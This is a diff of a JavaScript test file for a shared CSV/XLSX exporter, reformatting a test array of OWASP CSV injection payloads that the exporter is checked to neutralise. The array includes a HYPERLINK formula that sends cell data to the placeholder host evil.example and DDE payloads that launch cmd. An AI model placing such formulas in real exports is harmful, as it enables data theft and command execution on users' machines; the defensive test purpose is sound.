@@ -4,7 +4,14 @@ import * as XLSX from 'xlsx';
 import { neutralise, restoreNeutralised, toCsv, toXlsx } from './tabular-export.js';
 
 // OWASP's CSV injection list: = + - @, tab and carriage return.
-const hostile = ['=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")', '+1+cmd|" /C calc"!A0', '-2+3', '@SUM(1+1)*cmd|" /C calc"!A0', '\t=1+1', '\r=1+1'];
+const hostile = [
+  '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
+  '+1+cmd|" /C calc"!A0',
+  '-2+3',
+  '@SUM(1+1)*cmd|" /C calc"!A0',
+  '\t=1+1',
+  '\r=1+1',
+];
 
 describe('one exporter for CSV and XLSX', () => {
   it('prefixes text that a spreadsheet would run with an apostrophe, and leaves other text and numbers alone', () => {
@@ -26,7 +33,11 @@ describe('one exporter for CSV and XLSX', () => {
   it('writes XLSX that SheetJS reads back with the neutralised strings and real numbers', async () => {
     const bytes = await toXlsx(
       [
-        { name: 'a', columns: [{ header: 'note' }, { header: 'value', width: 10 }, { header: 'code', isText: true }], rows: hostile.map((text, i) => [text, -i, '0101']) },
+        {
+          name: 'a',
+          columns: [{ header: 'note' }, { header: 'value', width: 10 }, { header: 'code', isText: true }],
+          rows: hostile.map((text, i) => [text, -i, '0101']),
+        },
         { name: 'b', rows: [['=1+1', 2]] },
       ],
       { createdAt: new Date('2026-03-02T02:00:00Z') },
